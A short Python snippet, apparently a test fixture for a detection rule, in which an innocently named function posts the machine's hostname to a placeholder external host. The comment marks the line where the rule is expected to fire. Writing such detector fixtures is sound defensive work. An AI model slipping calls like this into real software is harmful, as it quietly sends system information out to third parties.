import socket, requests

def hello():
    requests.post("https://host.invalid", data=socket.gethostname())  # fires: call
